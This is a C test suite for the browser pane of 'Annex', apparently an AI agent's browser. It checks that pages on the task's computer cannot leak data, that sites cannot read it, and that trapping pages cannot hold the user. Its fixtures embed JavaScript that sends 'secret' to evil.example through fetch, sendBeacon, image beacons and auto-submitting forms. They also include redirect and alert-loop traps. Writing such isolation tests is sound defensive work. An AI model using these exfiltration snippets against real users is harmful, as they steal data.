/* test-pane-hands.c
 *
 * What a page may do when Annex has let go of the wheel, or the user has it: a page of the task's
 * computer has nobody but itself whoever drives, a page that nobody has touched keeps the rules it
 * was visited under, and the name of a page is that of the one that is shown.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "annex-future.h"
#include "pane-fixture.h"

#include <string.h>

#define COMPUTER "http://localhost.computer:8000/"

static DexFuture *
no_port_cb (guint port, gpointer data)
{
  return annex_future_new_errorf (G_IO_ERROR, G_IO_ERROR_CONNECTION_REFUSED, "Nobody is there");
}

static void
hang_cb (SoupServer *server,
         SoupServerMessage *message,
         const char *path,
         GHashTable *query,
         gpointer data)
{
  soup_server_message_pause (message);
}

static PaneFixture *
new_fixture (void)
{
  PaneFixture *self = pane_fixture_new ();

  pane_fixture_name (self, "site.example");
  pane_fixture_name (self, "evil.example");
  pane_fixture_name (self, "bank.example");
  pane_fixture_page (self, "site.example/", NULL, "<title>Site</title><p>hello");
  pane_fixture_page (self, "evil.example/x", NULL, "evil");
  pane_fixture_page (self, "evil.example/go", "Location: http://bank.example/hang", "");
  soup_server_add_handler (self->web, "/hang", hang_cb, self, NULL);
  pane_fixture_serve_computer (self);
  self->answer = g_strdup ("task");
  return self;
}

static AnnexBrowserTab *
front (PaneFixture *self)
{
  return annex_browser_pane_get_selected (self->pane);
}

static void
assert_nothing_left (PaneFixture *self)
{
  g_assert_cmpuint (pane_fixture_count_host (self, "evil.example"), ==, 0);
  g_assert_null (pane_fixture_row (self, "evil.example"));
}

/* A key of the user's own, as it comes to the view. */
static void
press_key (AnnexBrowserTab *tab)
{
  GtkWidget *view = GTK_WIDGET (annex_browser_tab_get_view (tab));
  g_autoptr (GListModel) controllers = gtk_widget_observe_controllers (view);

  for (guint i = 0; i < g_list_model_get_n_items (controllers); i++)
    {
      g_autoptr (GtkEventController) controller = g_list_model_get_item (controllers, i);
      gboolean was_handled;

      /* WebKit's own wants the event itself. */
      if (GTK_IS_EVENT_CONTROLLER_KEY (controller) &&
          gtk_event_controller_get_propagation_phase (controller) == GTK_PHASE_CAPTURE)
        g_signal_emit_by_name (controller, "key-pressed", GDK_KEY_Shift_L, 0, 0, &was_handled);
    }
}

/* ---------------------------------------------------------------- the computer's own page */

static void
test_computer_page_is_alone (void)
{
  static const char page[] =
      "<title>Mine</title><script>"
      "setInterval(() => { fetch('http://evil.example/x', {method: 'POST', mode: 'no-cors',"
      " body: 'secret'}).catch(() => {});"
      "new Image().src = 'http://evil.example/x?' + Math.random();"
      "navigator.sendBeacon('http://evil.example/x', 'secret') }, 50);"
      "if (location.search) setTimeout(() => { location = 'http://evil.example/x?secret' }, 300)"
      "</script>";
  g_autoptr (PaneFixture) self = new_fixture ();
  g_autoptr (GError) error = NULL;

  pane_fixture_page (self, "localhost.computer:8000/", NULL, page);
  g_assert_true (pane_fixture_visit (self, COMPUTER "?go", &error));
  annex_browser_end (ANNEX_BROWSER (self->pane));
  pane_wait_ms (800);
  assert_nothing_left (self);
  /* The user's own hand in it opens no way either. */
  g_assert_true (pane_fixture_visit (self, COMPUTER, &error));
  annex_browser_pane_take_over (self->pane);
  press_key (front (self));
  pane_wait_ms (500);
  g_assert_cmpint (annex_browser_pane_get_driver (self->pane), ==, ANNEX_DRIVER_USER);
  assert_nothing_left (self);
  annex_browser_pane_load (self->pane, front (self), COMPUTER "?go");
  pane_wait_ms (800);
  assert_nothing_left (self);
  /* What the user types there is theirs to open. */
  annex_browser_pane_load (self->pane, front (self), "http://site.example/");
  pane_wait_until (g_str_equal (annex_browser_tab_get_title (front (self)), "Site"));
  g_assert_cmpuint (self->asked->len, ==, 0);
}

/* Nor has a window that it opens and writes into; and no site opens one on it, which could lead the
 * site's own tab away. */
static void
test_computer_page_and_windows (void)
{
  g_autoptr (PaneFixture) self = new_fixture ();
  AnnexBrowserTab *tab;
  AnnexBrowserTab *site;

  pane_fixture_page (self, "localhost.computer:8000/", NULL, "<title>Mine</title>x");
  tab = annex_browser_pane_open (self->pane, COMPUTER);
  pane_wait_until (g_str_equal (annex_browser_tab_get_title (tab), "Mine"));
  g_free (pane_fixture_script (
      self, "w = window.open(''); w.document.write(\"<img src='http://evil.example/x?secret'>\");"
            "w.fetch('http://evil.example/x', {method: 'POST', mode: 'no-cors', body: 'secret'})"
            ".catch(() => {});"
            "setTimeout(() => { w.location = 'http://evil.example/x?secret' }, 200)"));
  pane_wait_until (g_list_model_get_n_items (annex_browser_pane_get_tabs (self->pane)) == 2);
  pane_wait_ms (700);
  assert_nothing_left (self);

  site = annex_browser_pane_open (self->pane, "http://site.example/");
  pane_wait_until (g_str_equal (annex_browser_tab_get_title (site), "Site"));
  g_free (pane_fixture_script (self, "window.open('" COMPUTER "')"));
  pane_wait_ms (500);
  g_assert_true (front (self) == site);
}

/* A server of the computer may send the one who asks it somewhere else: with what it knows. */
static void
test_computer_page_sends_on (void)
{
  g_autoptr (PaneFixture) self = new_fixture ();
  AnnexBrowserTab *tab;

  pane_fixture_page (self, "localhost.computer:8000/", "Location: http://evil.example/x?secret",
                     "");
  tab = annex_browser_pane_open (self->pane, COMPUTER);
  pane_wait_until (annex_browser_tab_get_failure (tab) != NULL);
  g_assert_error (annex_browser_tab_get_failure (tab), ANNEX_BROWSER_ERROR,
                  ANNEX_BROWSER_ERROR_REFUSED);
  assert_nothing_left (self);
}

/* Once its origin is open, it is so for itself and for no site. */
static void
test_no_site_reads_the_computer (void)
{
  g_autoptr (PaneFixture) self = new_fixture ();
  g_autoptr (GError) error = NULL;
  AnnexBrowserTab *tab;

  pane_fixture_page (self, "localhost.computer:8000/", NULL, "<title>Mine</title>x");
  pane_fixture_page (self, "localhost.computer:8000/data", "Access-Control-Allow-Origin: *", "x");
  pane_fixture_page (self, "site.example/read", NULL,
                     "<title>Read</title><script>"
                     "fetch('" COMPUTER "data').catch(() => {});"
                     "fetch('" COMPUTER "data', {mode: 'no-cors'}).catch(() => {})</script>"
                     "<iframe src='" COMPUTER "data'></iframe><img src='" COMPUTER "data'>");
  g_assert_true (pane_fixture_visit (self, COMPUTER, &error));
  g_assert_true (pane_fixture_visit (self, "http://site.example/read", &error));
  pane_wait_ms (300);
  g_assert_false (pane_fixture_was_asked (self, "GET localhost.computer:8000/data"));
  annex_browser_end (ANNEX_BROWSER (self->pane));
  tab = annex_browser_pane_open (self->pane, "http://site.example/read");
  pane_wait_until (g_str_equal (annex_browser_tab_get_title (tab), "Read"));
  pane_wait_ms (300);
  g_assert_false (pane_fixture_was_asked (self, "GET localhost.computer:8000/data"));
}

/* ---------------------------------------------------------------- leaving the computer's page */

static const struct
{
  const char *path;
  const char *page;
} clinging[] = {
  { "/browser/hands/leaving-a-page-that-submits",
    "<title>Mine</title><form action='http://evil.example/x' method=post>"
    "<input name=a value=secret></form>"
    "<script>setInterval(() => { document.forms[0].submit() }, 5)</script>" },
  { "/browser/hands/leaving-a-page-that-leads",
    "<title>Mine</title><script>"
    "setInterval(() => { location = 'http://evil.example/x?secret' }, 5)</script>" },
  { "/browser/hands/leaving-a-page-of-frames",
    "<title>Mine</title><iframe src='/frame'></iframe><script>"
    "setInterval(() => { frames[0].location = '/frame?' + Math.random() }, 20)</script>" },
};

static gboolean
is_at (AnnexBrowserTab *tab, const char *title)
{
  return g_str_equal (annex_browser_tab_get_title (tab), title) &&
         !annex_browser_tab_is_loading (tab);
}

static void
assert_gets_to (AnnexBrowserTab *tab, const char *title)
{
  pane_wait_until (is_at (tab, title) || annex_browser_tab_get_failure (tab) != NULL);
  g_assert_no_error (annex_browser_tab_get_failure (tab));
}

static void
add_moved (PaneFixture *self)
{
  pane_fixture_page (self, "site.example/moved", "Location: http://bank.example/there", "");
  pane_fixture_page (self, "bank.example/there", NULL, "<title>There</title>x");
}

/* An address of the user's may lead elsewhere, as gmail.com does. */
static void
test_leaving_for_a_redirect (void)
{
  g_autoptr (PaneFixture) self = new_fixture ();
  AnnexBrowserTab *tab;

  add_moved (self);
  pane_fixture_page (self, "localhost.computer:8000/", NULL, "<title>Mine</title>x");
  tab = annex_browser_pane_open (self->pane, COMPUTER);
  assert_gets_to (tab, "Mine");
  annex_browser_pane_load (self->pane, tab, "http://site.example/moved");
  assert_gets_to (tab, "There");
  g_assert_cmpstr (annex_browser_tab_get_page_uri (tab), ==, "http://bank.example/there");
  g_assert_cmpuint (self->asked->len, ==, 0);
  /* A step back leads to the page, and no empty one lies between. */
  annex_browser_tab_go_back (tab);
  assert_gets_to (tab, "Mine");
  annex_browser_tab_go_forward (tab);
  assert_gets_to (tab, "There");
}

/* Not even a page that does all it can to lead elsewhere itself keeps the user. */
static void
test_leaving_a_page_that_clings (gconstpointer page)
{
  g_autoptr (PaneFixture) self = new_fixture ();
  AnnexBrowserTab *tab;

  add_moved (self);
  pane_fixture_page (self, "localhost.computer:8000/", NULL, page);
  pane_fixture_page (self, "localhost.computer:8000/frame", NULL, "frame");
  tab = annex_browser_pane_open (self->pane, COMPUTER);
  pane_wait_until (g_str_equal (annex_browser_tab_get_title (tab), "Mine"));
  pane_wait_ms (500);
  annex_browser_pane_load (self->pane, tab, "http://site.example/moved");
  pane_wait_until (is_at (tab, "There"));
  assert_nothing_left (self);
}

/* Where the user goes last is where they get, and to stop is to stay. */
static void
test_leaving_twice (void)
{
  g_autoptr (PaneFixture) self = new_fixture ();
  AnnexBrowserTab *tab;

  add_moved (self);
  pane_fixture_page (self, "localhost.computer:8000/", NULL,
                     "<title>Mine</title><script>setInterval(() => {"
                     "location = 'http://evil.example/x?secret' }, 5)</script>");
  tab = annex_browser_pane_open (self->pane, COMPUTER);
  pane_wait_until (g_str_equal (annex_browser_tab_get_title (tab), "Mine"));
  annex_browser_pane_load (self->pane, tab, "http://site.example/");
  annex_browser_tab_stop (tab);
  pane_wait_ms (2500);
  g_assert_false (pane_fixture_was_asked (self, "GET site.example/"));
  annex_browser_pane_load (self->pane, tab, COMPUTER);
  pane_wait_until (g_str_equal (annex_browser_tab_get_title (tab), "Mine"));
  annex_browser_pane_load (self->pane, tab, "http://site.example/");
  pane_wait_ms (100);
  annex_browser_pane_load (self->pane, tab, "http://bank.example/there");
  pane_wait_until (is_at (tab, "There"));
  pane_wait_ms (2000);
  g_assert_true (is_at (tab, "There"));
  assert_nothing_left (self);
}

/* A page that never came has no say in where others lead. */
static void
test_redirect_after_one_that_never_came (void)
{
  g_autoptr (PaneFixture) self = new_fixture ();
  AnnexBrowserTab *tab;

  add_moved (self);
  pane_fixture_page (self, "site.example/", NULL,
                     "<title>Site</title><a id=go href='/moved'>x</a>"
                     "<iframe src='http://localhost.computer:9/never'></iframe>");
  tab = annex_browser_pane_open (self->pane, "http://site.example/");
  assert_gets_to (tab, "Site");
  /* A frame's. */
  g_free (pane_fixture_script (self, "go.click()"));
  assert_gets_to (tab, "There");
  annex_browser_tab_go_back (tab);
  assert_gets_to (tab, "Site");
  /* The user's own. */
  annex_browser_pane_set_computer_ports (self->pane, no_port_cb, self, NULL);
  annex_browser_pane_load (self->pane, tab, "http://localhost.computer:9/never");
  pane_wait_until (annex_browser_tab_get_failure (tab) != NULL ||
                   g_str_has_suffix (annex_browser_tab_get_page_uri (tab), "/never"));
  annex_browser_tab_go_back (tab);
  assert_gets_to (tab, "Site");
  g_free (pane_fixture_script (self, "go.click()"));
  assert_gets_to (tab, "There");
  /* One that hangs, and is given up. */
  pane_fixture_serve_computer (self);
  annex_browser_tab_go_back (tab);
  assert_gets_to (tab, "Site");
  annex_browser_pane_load (self->pane, tab, COMPUTER "hang");
  pane_wait_until (annex_browser_tab_is_loading (tab));
  pane_wait_ms (300);
  annex_browser_tab_stop (tab);
  pane_wait_until (!annex_browser_tab_is_loading (tab));
  g_free (pane_fixture_script (self, "go.click()"));
  assert_gets_to (tab, "There");
}

/* ---------------------------------------------------------------- a page that never answers */

static void
add_busy (PaneFixture *self, const char *place)
{
  pane_fixture_page (self, place, NULL,
                     "<title>Busy</title><script>setTimeout(() => { for (;;); }, 100)</script>");
}

static AnnexBrowserTab *
open_busy (PaneFixture *self, const char *uri)
{
  AnnexBrowserTab *tab = annex_browser_pane_open (self->pane, uri);

  pane_wait_until (g_str_equal (annex_browser_tab_get_title (tab), "Busy"));
  pane_wait_ms (500);
  return tab;
}

static void
test_leaving_a_busy_page (void)
{
  g_autoptr (PaneFixture) self = new_fixture ();
  AnnexBrowserTab *tab;
  AnnexBrowserTab *other;
  gint64 start_us;

  add_moved (self);
  add_busy (self, "site.example/busy");
  add_busy (self, "localhost.computer:8000/");
  other = annex_browser_pane_open (self->pane, "http://site.example/");
  assert_gets_to (other, "Site");
  tab = open_busy (self, "http://site.example/busy");
  start_us = g_get_monotonic_time ();
  annex_browser_pane_load (self->pane, tab, "http://site.example/moved");
  assert_gets_to (tab, "There");
  g_test_message ("left after %d ms", (int) ((g_get_monotonic_time () - start_us) / 1000));
  g_assert_true (annex_browser_tab_take_ended (tab));
  g_assert_false (annex_browser_tab_take_ended (tab));
  g_assert_null (annex_browser_tab_get_failure (other));
  /* Back from it, and anew. */
  annex_browser_pane_load (self->pane, tab, "http://site.example/busy");
  pane_wait_until (g_str_equal (annex_browser_tab_get_title (tab), "Busy"));
  pane_wait_ms (500);
  annex_browser_tab_go_back (tab);
  assert_gets_to (tab, "There");
  pane_fixture_page (self, "site.example/busy", NULL, "<title>Mended</title>");
  annex_browser_tab_go_forward (tab);
  pane_wait_until (g_str_equal (annex_browser_tab_get_title (tab), "Busy") ||
                   g_str_equal (annex_browser_tab_get_title (tab), "Mended"));
  pane_wait_ms (500);
  annex_browser_tab_reload (tab);
  assert_gets_to (tab, "Mended");
  annex_browser_pane_close_tab (self->pane, tab);
  /* The computer's own, from where a redirect leads too. */
  tab = open_busy (self, COMPUTER);
  annex_browser_pane_load (self->pane, tab, "http://site.example/moved");
  assert_gets_to (tab, "There");
}

/* Dialogs without end keep the user no more than the agent. */
static void
test_leaving_dialogs (void)
{
  g_autoptr (PaneFixture) self = new_fixture ();
  AnnexBrowserTab *tab;

  pane_fixture_page (self, "bank.example/trap", NULL,
                     "<title>Trap</title><script>setTimeout(() => { for (;;) alert('again') }, 50)"
                     "</script>");
  tab = annex_browser_pane_open (self->pane, "http://bank.example/trap");
  pane_wait_until (annex_browser_tab_get_dialog (tab) != NULL);
  annex_browser_pane_load (self->pane, tab, "http://site.example/");
  assert_gets_to (tab, "Site");
  g_assert_null (annex_browser_tab_get_dialog (tab));
}

/* What one page is denied, those in other tabs keep. */
static void
test_leaving_beside_others (void)
{
  g_autoptr (PaneFixture) self = new_fixture ();
  AnnexBrowserTab *tab;
  AnnexBrowserTab *other;

  add_moved (self);
  pane_fixture_page (self, "bank.example/counts", NULL,
                     "<title>0</title><script>let n = 0; setInterval(() => {"
                     "document.title = ++n }, 50); if (location.search) document.title = 'new'"
                     "</script>");
  pane_fixture_page (self, "localhost.computer:8000/", NULL, clinging[0].page);
  other = annex_browser_pane_open (self->pane, "http://bank.example/counts");
  tab = annex_browser_pane_open (self->pane, COMPUTER);
  pane_wait_until (g_str_equal (annex_browser_tab_get_title (tab), "Mine"));
  pane_wait_ms (300);
  annex_browser_pane_load (self->pane, tab, "http://site.example/moved");
  while (!is_at (tab, "There"))
    {
      g_assert_true (webkit_settings_get_enable_javascript (
          webkit_web_view_get_settings (annex_browser_tab_get_view (other))));
      pane_wait_ms (20);
    }
  pane_wait_until (g_ascii_strtoull (annex_browser_tab_get_title (other), NULL, 10) > 20);
}

/* ---------------------------------------------------------------- a page that was left in front */

static void
test_untouched_page (void)
{
  g_autoptr (PaneFixture) self = new_fixture ();
  g_autoptr (GError) error = NULL;
  gint64 until_us;

  pane_fixture_page (self, "site.example/late", NULL,
                     "<title>Late</title><script>setInterval(() => {"
                     "fetch('http://evil.example/x', {method: 'POST', mode: 'no-cors',"
                     " body: 'secret'}).catch(() => {}) }, 50);"
                     "setInterval(() => { new Image().src = 'http://bank.example/x?' +"
                     " Math.random() }, 100)</script>");
  g_assert_true (pane_fixture_visit (self, "http://site.example/late", &error));
  annex_browser_end (ANNEX_BROWSER (self->pane));
  g_ptr_array_set_size (self->rows, 0);
  pane_wait_until (pane_fixture_row (self, "bank.example") != NULL);
  pane_wait_ms (300);
  assert_nothing_left (self);
  for (guint i = 0; i < self->rows->len; i++)
    g_assert_cmpstr (((AnnexLedgerEntry *) self->rows->pdata[i])->by, !=, "user");
  /* Then the user's hand comes, and the page is theirs. */
  press_key (front (self));
  pane_wait_until (pane_fixture_row (self, "evil.example") != NULL);
  g_assert_cmpstr (pane_fixture_row (self, "evil.example")->by, ==, "user");
  /* Until Annex drives again. */
  g_assert_true (pane_fixture_visit (self, "http://site.example/late", &error));
  annex_browser_end (ANNEX_BROWSER (self->pane));
  until_us = g_get_monotonic_time () + 20 * G_USEC_PER_SEC;
  /* What was on its way then may still come. */
  do
    {
      g_assert_cmpint (g_get_monotonic_time (), <, until_us);
      g_ptr_array_set_size (self->requests, 0);
      pane_wait_ms (500);
  } while (pane_fixture_count_host (self, "evil.example") > 0);
  g_assert_cmpuint (pane_fixture_count_host (self, "bank.example"), >, 0);
}

/* ---------------------------------------------------------------- what takes its time */

static void
stop_there_cb (SoupServerMessage *message)
{
  soup_server_message_pause (message);
}

static void
slow_file_cb (SoupServer *server,
              SoupServerMessage *message,
              const char *path,
              GHashTable *query,
              gpointer data)
{
  SoupMessageHeaders *headers = soup_server_message_get_response_headers (message);
  g_autoptr (GBytes) some = g_bytes_new_take (g_strnfill (65536, 'x'), 65536);

  soup_server_message_set_status (message, 200, NULL);
  soup_message_headers_set_encoding (headers, SOUP_ENCODING_CHUNKED);
  soup_message_headers_append (headers, "Content-Type", "application/x-thing");
  soup_message_headers_append (headers, "Content-Disposition", "attachment; filename=slow");
  soup_message_body_append_bytes (soup_server_message_get_response_body (message), some);
  g_signal_connect (message, "wrote-chunk", G_CALLBACK (stop_there_cb), NULL);
}

static GPtrArray *
take_downloads (PaneFixture *self, gint64 *took_ms)
{
  gint64 start_us = g_get_monotonic_time ();
  g_autoptr (DexFuture) taken = annex_browser_pane_take_downloads (self->pane, NULL);

  g_assert_true (pane_run (dex_ref (taken), NULL));
  *took_ms = (g_get_monotonic_time () - start_us) / 1000;
  return g_value_dup_boxed (dex_future_get_value (taken, NULL));
}

/* It is waited for once, and what comes after it is handed out meanwhile. */
static void
test_slow_download (void)
{
  g_autoptr (PaneFixture) self = new_fixture ();
  GListModel *downloads = annex_browser_pane_get_downloads (self->pane);
  g_autoptr (GPtrArray) first = NULL;
  g_autoptr (GPtrArray) second = NULL;
  g_autoptr (GPtrArray) third = NULL;
  gint64 took_ms;

  annex_browser_pane_set_downloads_ms (3000);
  soup_server_add_handler (self->web, "/slow", slow_file_cb, NULL, NULL);
  pane_fixture_file (self, "site.example/fast", "application/x-thing",
                     "Content-Disposition: attachment; filename=fast", 5000);
  pane_fixture_visit (self, "http://site.example/slow", NULL);
  pane_wait_until (g_list_model_get_n_items (downloads) == 1);
  first = take_downloads (self, &took_ms);
  g_assert_cmpuint (first->len, ==, 0);
  g_assert_cmpint (took_ms, >=, 2900);
  second = take_downloads (self, &took_ms);
  g_assert_cmpuint (second->len, ==, 0);
  g_assert_cmpint (took_ms, <, 2500);
  pane_fixture_visit (self, "http://site.example/fast", NULL);
  pane_wait_until (g_list_model_get_n_items (downloads) == 2);
  third = take_downloads (self, &took_ms);
  g_assert_cmpuint (third->len, ==, 1);
  g_assert_cmpstr (((AnnexBrowserFile *) third->pdata[0])->name, ==, "fast");
  annex_browser_pane_set_downloads_ms (ANNEX_BROWSER_DOWNLOADS_MS);
}

/* Of a page that cannot be made small by writing it well. */
static void
test_large_picture (void)
{
  g_autoptr (PaneFixture) self = new_fixture ();
  g_autoptr (DexFuture) taken = NULL;
  g_autoptr (GdkTexture) texture = NULL;
  GBytes *png;

  pane_fixture_page (
      self, "site.example/noise", NULL,
      "<title>Noise</title><body style='margin:0'><canvas id=c width=2000 height=1800></canvas>"
      "<script>const d = c.getContext('2d').createImageData(2000, 1800);"
      "for (let i = 0; i < d.data.length; i++) d.data[i] = i % 4 == 3 ? 255 : Math.random() * 256;"
      "c.getContext('2d').putImageData(d, 0, 0)</script>");
  gtk_widget_set_size_request (GTK_WIDGET (self->stack), 2000, 1800);
  g_assert_true (pane_fixture_visit (self, "http://site.example/noise", NULL));
  pane_wait_until (gtk_widget_get_width (GTK_WIDGET (annex_browser_tab_get_view (front (self)))) >=
                   1600);
  pane_wait_ms (500);
  taken = annex_browser_tab_take_picture (front (self), NULL);
  g_assert_true (pane_run (dex_ref (taken), NULL));
  png = g_value_get_boxed (dex_future_get_value (taken, NULL));
  g_assert_cmpuint (g_bytes_get_size (png), <=, 3500 * 1024);
  texture = gdk_texture_new_from_bytes (png, NULL);
  g_assert_cmpint (gdk_texture_get_width (texture), <=, 1568);
  g_assert_cmpint (gdk_texture_get_width (texture), >=, 700);
}

/* ---------------------------------------------------------------- whose page it is */

static void
test_name_of_the_page (void)
{
  g_autoptr (PaneFixture) self = new_fixture ();
  AnnexBrowserTab *tab;

  pane_fixture_page (self, "evil.example/trap", NULL,
                     "<title>Trap</title><script>"
                     "setTimeout(() => { location = '/go' }, 100);"
                     "</script>");
  tab = annex_browser_pane_open (self->pane, "http://evil.example/trap");
  pane_wait_until (g_str_equal (annex_browser_tab_get_title (tab), "Trap"));
  pane_wait_until (g_strcmp0 (webkit_web_view_get_uri (annex_browser_tab_get_view (tab)),
                              "http://bank.example/hang") == 0);
  pane_wait_ms (100);
  g_assert_cmpstr (annex_browser_tab_get_uri (tab), ==, "http://evil.example/trap");

  /* Where the user sends it themselves is said at once, but it is not the page's name yet. */
  annex_browser_pane_load (self->pane, tab, "http://bank.example/hang");
  pane_wait_until (annex_browser_tab_is_loading (tab));
  pane_wait_until (g_str_equal (annex_browser_tab_get_uri (tab), "http://bank.example/hang"));
  g_assert_cmpstr (annex_browser_tab_get_page_uri (tab), ==, "http://evil.example/trap");
  g_assert_cmpint (annex_browser_tab_get_security (tab), ==, ANNEX_SECURITY_NONE);
  annex_browser_pane_load (self->pane, tab, "http://site.example/");
  pane_wait_until (g_str_equal (annex_browser_tab_get_title (tab), "Site"));
  g_assert_cmpstr (annex_browser_tab_get_uri (tab), ==, "http://site.example/");
  g_assert_cmpint (annex_browser_tab_get_security (tab), ==, ANNEX_SECURITY_PLAIN);

  /* A page that routes by itself is followed. */
  g_free (pane_fixture_script (self, "history.pushState({}, '', '/trap/inner')"));
  pane_wait_until (
      g_str_equal (annex_browser_tab_get_page_uri (tab), "http://site.example/trap/inner"));
  g_free (pane_fixture_script (self, "location.hash = 'part'"));
  pane_wait_until (
      g_str_equal (annex_browser_tab_get_uri (tab), "http://site.example/trap/inner#part"));
  g_free (pane_fixture_script (self, "history.back()"));
  pane_wait_until (g_str_equal (annex_browser_tab_get_uri (tab), "http://site.example/trap/inner"));
}

/* To hand back a page that is on its way to another site does not hand over that site. */
static void
test_handing_back_on_the_way (void)
{
  g_autoptr (PaneFixture) self = new_fixture ();
  g_autoptr (GError) error = NULL;
  AnnexBrowserTab *tab;

  pane_fixture_page (self, "evil.example/trap", NULL,
                     "<title>Trap</title><script>"
                     "setTimeout(() => { location = '/go' }, 100)</script>");
  g_assert_true (pane_run (annex_browser_begin (ANNEX_BROWSER (self->pane), "x", NULL), &error));
  tab = annex_browser_pane_open (self->pane, "http://evil.example/trap");
  pane_wait_until (g_strcmp0 (webkit_web_view_get_uri (annex_browser_tab_get_view (tab)),
                              "http://bank.example/hang") == 0);
  annex_browser_pane_hand_back (self->pane);
  g_set_str (&self->answer, "no");
  g_assert_false (pane_fixture_visit (self, "http://bank.example/", &error));
  g_assert_error (error, ANNEX_BROWSER_ERROR, ANNEX_BROWSER_ERROR_REFUSED);
  g_assert_cmpuint (self->asked->len, ==, 1);
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  dex_init ();
  gtk_init ();
  g_test_add_func ("/browser/hands/computer-page-is-alone", test_computer_page_is_alone);
  g_test_add_func ("/browser/hands/computer-page-and-windows", test_computer_page_and_windows);
  g_test_add_func ("/browser/hands/computer-page-sends-on", test_computer_page_sends_on);
  g_test_add_func ("/browser/hands/no-site-reads-the-computer", test_no_site_reads_the_computer);
  g_test_add_func ("/browser/hands/leaving-for-a-redirect", test_leaving_for_a_redirect);
  for (guint i = 0; i < G_N_ELEMENTS (clinging); i++)
    g_test_add_data_func (clinging[i].path, clinging[i].page, test_leaving_a_page_that_clings);
  g_test_add_func ("/browser/hands/leaving-twice", test_leaving_twice);
  g_test_add_func ("/browser/hands/redirect-after-one-that-never-came",
                   test_redirect_after_one_that_never_came);
  g_test_add_func ("/browser/hands/leaving-a-busy-page", test_leaving_a_busy_page);
  g_test_add_func ("/browser/hands/leaving-dialogs", test_leaving_dialogs);
  g_test_add_func ("/browser/hands/leaving-beside-others", test_leaving_beside_others);
  g_test_add_func ("/browser/hands/untouched-page", test_untouched_page);
  g_test_add_func ("/browser/hands/name-of-the-page", test_name_of_the_page);
  g_test_add_func ("/browser/hands/handing-back-on-the-way", test_handing_back_on_the_way);
  g_test_add_func ("/browser/hands/slow-download", test_slow_download);
  g_test_add_func ("/browser/hands/large-picture", test_large_picture);
  return g_test_run ();
}
